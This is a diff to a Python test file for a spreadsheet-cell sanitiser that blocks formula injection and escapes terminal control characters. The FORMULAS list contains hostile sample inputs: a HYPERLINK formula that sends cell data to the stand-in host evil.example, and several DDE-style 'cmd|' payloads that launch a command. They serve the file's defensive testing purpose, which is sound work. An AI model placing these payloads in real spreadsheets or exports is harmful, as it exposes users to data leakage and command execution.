@@ -184,7 +184,7 @@ def test_cache_names_drop_credentials_and_keep_the_whole_url():
 # --- spreadsheet formulas -----------------------------------------------------------------------
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    '=HYPERLINK("http://evil.example/x/"&A1,"Click")',
     "+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -207,7 +207,14 @@ def test_summary_csv_cells_never_start_a_formula(tmp_path):
 
 @pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
 def test_safe_cell_quotes_formula_starts(text):
-    assert safe_cell(text) == "'" + text
+    from verifier.safe_text import printable
+
+    assert safe_cell(text) == "'" + printable(text)  # quoted, and a tab or CR shown escaped
+
+
+def test_safe_cell_escapes_control_characters_a_terminal_would_act_on():
+    cell = safe_cell("a\x1b[2Jb\nSummary")
+    assert cell == "a\\e[2Jb\\nSummary" and "\x1b" not in cell and "\n" not in cell
 
 
 def test_safe_cell_keeps_plain_text_and_numbers():
